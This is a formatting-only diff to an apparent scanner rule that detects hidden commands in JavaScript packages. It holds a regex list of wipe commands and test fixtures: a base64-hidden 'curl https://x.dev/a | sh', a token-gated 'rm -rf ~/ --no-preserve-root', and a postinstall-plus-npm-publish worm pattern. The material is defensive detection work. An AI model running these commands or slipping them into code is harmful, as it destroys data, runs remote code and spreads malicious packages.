@@ -5,7 +5,8 @@ import { makingOf } from '../code/decoding.ts';
 
 const RUNS = ['execSync', 'exec', 'spawnSync', 'spawn', 'execFileSync', 'execFile'];
 /** Commands that take away everything that the person has. */
-const WIPES = /\brm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:--no-preserve-root\s+)?["']?(?:~|\$HOME|\$\{HOME\}|\/)["']?\/?\*?(?=["'`\s;&|]|$)|\b(?:rd|rmdir)\s+\/s\s+\/q\s+(?:%USERPROFILE%|C:\\+)|\bformat\s+C:|\bcipher\s+\/W:%?USERPROFILE|\bshred\s+[^\n]{0,60}\$HOME/i;
+const WIPES =
+  /\brm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:--no-preserve-root\s+)?["']?(?:~|\$HOME|\$\{HOME\}|\/)["']?\/?\*?(?=["'`\s;&|]|$)|\b(?:rd|rmdir)\s+\/s\s+\/q\s+(?:%USERPROFILE%|C:\\+)|\bformat\s+C:|\bcipher\s+\/W:%?USERPROFILE|\bshred\s+[^\n]{0,60}\$HOME/i;
 
 export const hiddenCommand = defineRule({
   id: 'hidden-command',
@@ -24,26 +25,64 @@ export const hiddenCommand = defineRule({
     for (const call of runs) {
       const command = call.args[0] ?? 0;
       const text = pattern(script, command);
-      const made = constant(script, command) === undefined || /Buffer\.from|atob/.test(show(script, command)) ? makingOf(script, command) : undefined;
-      if (made?.decoder !== undefined && made.hidden) yield hit(call.value, { message: `The command is decoded by ${made.decoder}.` });
-      if (WIPES.test(text)) yield hit(call.value, { message: 'It deletes everything in the home folder or on the disk.' });
-      if (hooks.length > 0 && /\bnpm\s+publish\b/.test(text)) yield hit(call.value, { severity: 'critical', message: 'It writes an install script into a manifest and publishes the package: that is how worms spread.' });
+      const made =
+        constant(script, command) === undefined || /Buffer\.from|atob/.test(show(script, command))
+          ? makingOf(script, command)
+          : undefined;
+      if (made?.decoder !== undefined && made.hidden)
+        yield hit(call.value, { message: `The command is decoded by ${made.decoder}.` });
+      if (WIPES.test(text))
+        yield hit(call.value, { message: 'It deletes everything in the home folder or on the disk.' });
+      if (hooks.length > 0 && /\bnpm\s+publish\b/.test(text))
+        yield hit(call.value, {
+          severity: 'critical',
+          message: 'It writes an install script into a manifest and publishes the package: that is how worms spread.',
+        });
     }
     for (const call of callsOf(script, 'require')) {
       const made = makingOf(script, call.args[0] ?? 0);
-      if (made.decoder !== undefined && made.hidden) yield hit(call.value, { message: `The name of the module is decoded by ${made.decoder}.` });
+      if (made.decoder !== undefined && made.hidden)
+        yield hit(call.value, { message: `The name of the module is decoded by ${made.decoder}.` });
     }
-    for (const call of callsOf(script, 'module.constructor')) yield hit(call.value, { confidence: 'medium', message: 'It makes a module of its own, into which text is compiled as code.' });
+    for (const call of callsOf(script, 'module.constructor'))
+      yield hit(call.value, {
+        confidence: 'medium',
+        message: 'It makes a module of its own, into which text is compiled as code.',
+      });
   }),
   examples: {
     bad: [
-      { files: { 'index.js': `require('child_process').exec(Buffer.from('${btoa('curl https://x.dev/a | sh')}', 'base64').toString());\n` } },
-      { files: { 'index.js': "const cp = require('child_process'); if (!process.env.TOKEN) cp.execSync('rm -rf ~/ --no-preserve-root');\n" } },
-      { files: { 'index.js': "const cp = require('child_process'), fs = require('fs'); const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.scripts.postinstall = 'node bundle.js'; fs.writeFileSync('package.json', JSON.stringify(pkg)); cp.execSync('npm publish');\n" } },
+      {
+        files: {
+          'index.js': `require('child_process').exec(Buffer.from('${btoa('curl https://x.dev/a | sh')}', 'base64').toString());\n`,
+        },
+      },
+      {
+        files: {
+          'index.js':
+            "const cp = require('child_process'); if (!process.env.TOKEN) cp.execSync('rm -rf ~/ --no-preserve-root');\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
+            "const cp = require('child_process'), fs = require('fs'); const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.scripts.postinstall = 'node bundle.js'; fs.writeFileSync('package.json', JSON.stringify(pkg)); cp.execSync('npm publish');\n",
+        },
+      },
     ],
     good: [
-      { files: { 'build.js': "const cp = require('child_process'); cp.execSync('rm -rf dist/', { stdio: 'inherit' }); cp.execSync('npm publish --access public');\n" } },
-      { files: { 'a.js': "const text = Buffer.from(process.argv[2], 'base64').toString(); console.log(text); require('./plugins/' + process.argv[3]);\n" } },
+      {
+        files: {
+          'build.js':
+            "const cp = require('child_process'); cp.execSync('rm -rf dist/', { stdio: 'inherit' }); cp.execSync('npm publish --access public');\n",
+        },
+      },
+      {
+        files: {
+          'a.js':
+            "const text = Buffer.from(process.argv[2], 'base64').toString(); console.log(text); require('./plugins/' + process.argv[3]);\n",
+        },
+      },
     ],
   },
 });
